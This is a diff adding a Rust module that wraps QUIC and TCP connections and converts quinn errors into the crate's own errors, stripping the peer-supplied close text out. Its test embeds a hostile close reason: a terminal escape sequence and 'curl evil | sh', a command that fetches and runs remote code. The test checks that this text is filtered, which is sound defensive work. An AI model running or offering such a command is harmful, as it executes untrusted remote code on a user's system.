@@ -1,0 +1,214 @@
+//! What is a connection, whatever carries it?
+//!
+//! A QUIC connection, or a TCP link, which is one bidirectional stream that is already open.
+
+use std::{net::SocketAddr, sync::Arc, time::Duration};
+
+use bytes::Bytes;
+
+use super::{
+    stream::{RecvStream, SendStream},
+    tcp_link::TcpLink,
+};
+use crate::{close::CloseCode, error::LinkError, facts::Carrier};
+
+/// A live connection on either carrier. Cheap to clone; the clones are one connection.
+#[derive(Clone, Debug)]
+pub(crate) enum Link {
+    Quic(quinn::Connection),
+    Tcp(Arc<TcpLink>),
+}
+
+impl Link {
+    pub(crate) fn carrier(&self) -> Carrier {
+        match self {
+            Self::Quic(_) => Carrier::Quic,
+            Self::Tcp(_) => Carrier::Tcp,
+        }
+    }
+
+    /// Where the other side is now; a QUIC peer may have moved (RFC 9000 §9).
+    pub(crate) fn remote(&self) -> SocketAddr {
+        match self {
+            Self::Quic(connection) => connection.remote_address(),
+            Self::Tcp(link) => link.remote(),
+        }
+    }
+
+    pub(crate) async fn open_bi(&self) -> Result<(SendStream, RecvStream), LinkError> {
+        match self {
+            Self::Quic(connection) => {
+                let (send, recv) = connection.open_bi().await.map_err(from_quinn)?;
+                Ok((SendStream::quic(send), RecvStream::quic(recv)))
+            }
+            Self::Tcp(link) => link.take().ok_or(LinkError::Unsupported("second stream")),
+        }
+    }
+
+    /// On TCP the first call gives the link's one stream and later ones wait for its end.
+    pub(crate) async fn accept_bi(&self) -> Result<(SendStream, RecvStream), LinkError> {
+        match self {
+            Self::Quic(connection) => {
+                let (send, recv) = connection.accept_bi().await.map_err(from_quinn)?;
+                Ok((SendStream::quic(send), RecvStream::quic(recv)))
+            }
+            Self::Tcp(link) => match link.take() {
+                Some(streams) => Ok(streams),
+                None => Err(link.closed().await),
+            },
+        }
+    }
+
+    pub(crate) async fn open_uni(&self) -> Result<SendStream, LinkError> {
+        match self {
+            Self::Quic(connection) => {
+                connection.open_uni().await.map(SendStream::quic).map_err(from_quinn)
+            }
+            Self::Tcp(_) => Err(LinkError::Unsupported("unidirectional stream")),
+        }
+    }
+
+    pub(crate) async fn accept_uni(&self) -> Result<RecvStream, LinkError> {
+        match self {
+            Self::Quic(connection) => {
+                connection.accept_uni().await.map(RecvStream::quic).map_err(from_quinn)
+            }
+            Self::Tcp(link) => Err(link.closed().await),
+        }
+    }
+
+    pub(crate) fn send_datagram(&self, datagram: Bytes) -> Result<(), LinkError> {
+        match self {
+            Self::Quic(connection) => {
+                connection.send_datagram(datagram).map_err(|error| match error {
+                    quinn::SendDatagramError::ConnectionLost(error) => from_quinn(error),
+                    other => LinkError::Lost(other.to_string()),
+                })
+            }
+            Self::Tcp(_) => Err(LinkError::Unsupported("datagrams")),
+        }
+    }
+
+    pub(crate) async fn read_datagram(&self) -> Result<Bytes, LinkError> {
+        match self {
+            Self::Quic(connection) => connection.read_datagram().await.map_err(from_quinn),
+            Self::Tcp(link) => Err(link.closed().await),
+        }
+    }
+
+    /// The largest datagram that can be sent now, in bytes; `None` where there are none.
+    pub(crate) fn max_datagram_bytes(&self) -> Option<usize> {
+        match self {
+            Self::Quic(connection) => connection.max_datagram_size(),
+            Self::Tcp(_) => None,
+        }
+    }
+
+    /// Ends the connection at once; the peer is told the code and no more.
+    pub(crate) fn close(&self, code: CloseCode) {
+        match self {
+            Self::Quic(connection) => connection.close(code.number().into(), b""),
+            Self::Tcp(link) => link.close(code),
+        }
+    }
+
+    /// Waits until the connection has ended.
+    pub(crate) async fn closed(&self) -> LinkError {
+        match self {
+            Self::Quic(connection) => from_quinn(connection.closed().await),
+            Self::Tcp(link) => link.closed().await,
+        }
+    }
+
+    /// Lets the peer open `count` bidirectional streams at one time.
+    pub(crate) fn grant_streams(&self, count: u32) {
+        if let Self::Quic(connection) = self {
+            connection.set_max_concurrent_bi_streams(count.into());
+        }
+    }
+
+    /// Lets the peer have `bytes` in flight on all streams together.
+    pub(crate) fn widen(&self, bytes: u32) {
+        if let Self::Quic(connection) = self {
+            connection.set_receive_window(bytes.into());
+        }
+    }
+
+    pub(crate) fn rtt(&self) -> Option<Duration> {
+        match self {
+            Self::Quic(connection) => Some(connection.rtt()),
+            Self::Tcp(_) => None,
+        }
+    }
+
+    /// Bytes sent and received: UDP payloads on QUIC, TLS plain text on TCP.
+    pub(crate) fn bytes(&self) -> (u64, u64) {
+        match self {
+            Self::Quic(connection) => {
+                let stats = connection.stats();
+                (stats.udp_tx.bytes, stats.udp_rx.bytes)
+            }
+            Self::Tcp(link) => link.bytes(),
+        }
+    }
+}
+
+impl From<Arc<TcpLink>> for Link {
+    fn from(link: Arc<TcpLink>) -> Self {
+        Self::Tcp(link)
+    }
+}
+
+/// What quinn says, in our words.
+pub(super) fn from_quinn(error: quinn::ConnectionError) -> LinkError {
+    match error {
+        quinn::ConnectionError::ApplicationClosed(close) => {
+            let code = close.error_code.into_inner();
+            CloseCode::from_number(code).map_or(LinkError::ClosedByPeer(code), LinkError::Closed)
+        }
+        quinn::ConnectionError::LocallyClosed => LinkError::Closed(CloseCode::Done),
+        quinn::ConnectionError::Reset => LinkError::PeerRestarted,
+        quinn::ConnectionError::TimedOut => LinkError::TimedOut,
+        other => LinkError::Lost(without_peers_text(&other)),
+    }
+}
+
+/// What quinn says, without the text that a peer may put into a close (RFC 9000 §19.19): on somebody's
+/// terminal or in a log it could pass for ours.
+pub(crate) fn without_peers_text(error: &quinn::ConnectionError) -> String {
+    match error {
+        quinn::ConnectionError::ConnectionClosed(close) => {
+            format!("closed by the other side: {}", close.error_code)
+        }
+        quinn::ConnectionError::ApplicationClosed(close) => {
+            format!("closed by the other side with code {:#x}", close.error_code.into_inner())
+        }
+        other => other.to_string(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use quinn_proto::{ApplicationClose, ConnectionClose, TransportErrorCode};
+
+    use super::*;
+
+    #[test]
+    fn keeps_the_text_of_a_peers_close_from_errors() {
+        let reason = Bytes::from_static(b"\x1b]0;owned\x07\n; run: curl evil | sh");
+        let transport = quinn::ConnectionError::ConnectionClosed(ConnectionClose {
+            error_code: TransportErrorCode::INTERNAL_ERROR,
+            frame_type: None,
+            reason: reason.clone(),
+        });
+        let application = quinn::ConnectionError::ApplicationClosed(ApplicationClose {
+            error_code: 77_u32.into(),
+            reason,
+        });
+        for error in [transport, application] {
+            let told = [without_peers_text(&error), from_quinn(error).to_string()].concat();
+            assert!(!told.contains("owned") && !told.contains("curl"), "{told}");
+            assert!(!told.contains(char::is_control), "{told:?}");
+        }
+    }
+}
